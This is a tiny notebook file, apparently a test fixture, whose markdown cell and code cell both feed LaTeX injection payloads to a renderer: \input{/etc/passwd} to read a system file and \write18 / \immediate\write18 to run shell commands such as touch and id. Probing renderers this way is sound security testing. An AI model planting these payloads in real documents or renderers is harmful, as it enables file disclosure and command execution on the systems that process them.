# %% [markdown]
# $\input{/etc/passwd}$ \write18{touch /tmp/owned}
# %%
from IPython.display import Latex, Math, display
display(Math(r"\input{/etc/passwd}"), Latex(r"\immediate\write18{id}"))
